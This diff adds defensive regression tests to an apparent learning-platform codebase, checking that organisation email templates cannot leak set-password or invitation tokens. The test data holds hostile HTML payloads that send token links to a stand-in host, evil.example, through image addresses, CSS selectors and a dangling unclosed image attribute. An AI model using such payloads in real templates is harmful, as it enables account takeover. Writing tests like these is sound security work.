@@ -1,4 +1,5 @@
-import { Fixtures, Person, TestApp } from '@tessera/testing';
+import { eventually, Fixtures, Person, SmtpSink, TestApp } from '@tessera/testing';
+import { newId } from '@tessera/common';
 import { Organization } from '../src/identity/entities/organization.entity';
 import { MessageKind } from '../src/notifications/message-kinds';
 import { MessageTemplatesService } from '../src/notifications/message-templates.service';
@@ -94,5 +95,101 @@ describe('message templates: edited at run time, previewed, refused when broken'
   it('lets only the organisation’s admins see and change its texts', async () => {
     const { person } = await new Fixtures(t).member(organization);
     expect((await person.client.fails(TEMPLATES, { org: organization.id })).code).toBe('FORBIDDEN');
+  });
+});
+
+describe('account links cannot leave through an organisation’s template (finding: account takeover)', () => {
+  let t: TestApp;
+  let smtp: SmtpSink;
+  let organization: Organization;
+  let admin: Person;
+  let priceId: string;
+  const ASSIGN = `mutation($input: AssignSeatsInput!) { assignSeats(input: $input) { seatsRemaining } }`;
+  const INVITE = `mutation($input: InviteByEmailInput!) { inviteByEmail(input: $input) { seatsRemaining } }`;
+  const mailTo = async (address: string) => {
+    await eventually(() => expect(smtp.mailsTo(address)).toHaveLength(1));
+    return smtp.mailsTo(address)[0];
+  };
+  const tokenIn = (text: string, path: string) => {
+    const match = new RegExp(`https://lms\\.example\\.test/${path}\\?token=([A-Za-z0-9_-]+)`).exec(text);
+    if (!match) throw new Error(`No ${path} link in:\n${text}`);
+    return match[1];
+  };
+  const save = (kind: string, html: string, text = 'Welcome {{recipient.firstName}}') =>
+    admin.client.fails(UPDATE, { input: { organizationId: organization.id, kind, subject: 'Welcome', html, text } });
+
+  beforeAll(async () => {
+    smtp = await SmtpSink.start();
+    t = await TestApp.create({ env: { SMTP_URL: smtp.url, APP_URL: 'https://lms.example.test/' } });
+    const fixtures = new Fixtures(t);
+    ({ organization, admin } = await fixtures.organization('Org B'));
+    ({
+      price: { id: priceId },
+    } = await fixtures.catalogue(organization, { productName: 'Course B' }));
+    await fixtures.codes(organization, { quantity: 4, priceId });
+  });
+  afterAll(async () => {
+    await t.close();
+    await smtp.close();
+  });
+
+  it.each([
+    ['the link inside an image address', 'ACCOUNT_CREATED', '<img src="https://evil.example/c?{{setPasswordUrl}}">'],
+    ['the invitation link inside an image address', 'INVITATION', '<img src="https://evil.example/c?{{acceptUrl}}">'],
+    ['a style sheet that reads the link', 'SET_PASSWORD', '<style>a[href*="token=A"]{background:url(https://evil.example/A)}</style>'],
+    ['a decorator', 'ACCOUNT_CREATED', '{{* decorator}}'],
+  ])('refuses %s when saved', async (_, kind, html) => {
+    const error = await save(kind, html);
+    expect(error.code).toBe('BAD_USER_INPUT');
+    expect(error.extensions?.fields).toEqual(expect.arrayContaining([expect.objectContaining({ field: 'html' })]));
+  });
+
+  it('puts the set-password link above a hostile template that leaves an image address open, and nowhere else', async () => {
+    // Allowed tags only, but the attribute is left open to swallow whatever follows it.
+    const html = '<p>Welcome {{recipient.firstName}}</p><img src="https://evil.example/c?x=';
+    await admin.client.ok(UPDATE, {
+      input: {
+        organizationId: organization.id,
+        kind: 'ACCOUNT_CREATED',
+        subject: 'Welcome',
+        html,
+        text: 'Welcome {{recipient.firstName}}',
+      },
+    });
+    await admin.client.ok(ASSIGN, {
+      input: { organizationId: organization.id, priceId, people: [{ email: 'victim@example.test', firstName: 'Vic', lastName: 'Tim' }] },
+    });
+    const mail = await mailTo('victim@example.test');
+    const token = tokenIn(mail.text, 'set-password');
+    const body = mail.html.indexOf('<p>Welcome Vic</p>');
+    expect(body).toBeGreaterThan(0);
+    expect(mail.html.split(token)).toHaveLength(2); // once: the button's address
+    expect(mail.html.indexOf(token)).toBeLessThan(body);
+    expect(mail.html.slice(body)).not.toContain(token);
+    expect(mail.text.indexOf(token)).toBeLessThan(mail.text.indexOf('Welcome Vic'));
+  });
+
+  it('sends the default text while a text saved before these rules carries the link, and says why', async () => {
+    // As an organisation could have saved it before: the invitation link inside an image address.
+    await t.dataSource.query(
+      `INSERT INTO message_template (id, organization_id, kind, subject, html, text) VALUES ($1, $2, 'INVITATION', 'Hi', $3, '{{acceptUrl}}')`,
+      [newId(), organization.id, '<img src="https://evil.example/i?{{acceptUrl}}">'],
+    );
+    const { messageTemplates } = await admin.client.ok(
+      `query($org: UUID!) { messageTemplates(organizationId: $org) { kind isDefault problems } }`,
+      {
+        org: organization.id,
+      },
+    );
+    const invitation = messageTemplates.find((m: { kind: string }) => m.kind === 'INVITATION');
+    expect(invitation.isDefault).toBe(false);
+    expect(invitation.problems).toEqual(expect.arrayContaining([expect.stringMatching(/^html: uses \{\{acceptUrl\}\}/)]));
+
+    await admin.client.ok(INVITE, { input: { organizationId: organization.id, priceId, emails: ['invitee@example.test'] } });
+    const mail = await mailTo('invitee@example.test');
+    expect(mail.subject).toBe('Org B invites you to Course B');
+    expect(mail.html).not.toContain('evil.example');
+    const token = tokenIn(mail.text, 'invitations/accept');
+    expect(mail.html.split(token)).toHaveLength(2);
   });
 });
